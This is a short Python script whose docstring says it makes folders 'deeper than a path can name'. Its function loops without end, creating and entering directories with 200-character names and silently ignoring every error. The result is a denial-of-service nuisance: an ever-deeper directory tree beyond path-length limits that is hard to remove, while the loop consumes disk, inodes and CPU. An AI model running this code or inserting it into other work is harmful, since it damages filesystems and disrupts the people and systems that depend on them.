"""Makes folders in folders, deeper than a path can name."""

import os


def f(x):
    while True:
        try:
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        except OSError:
            pass
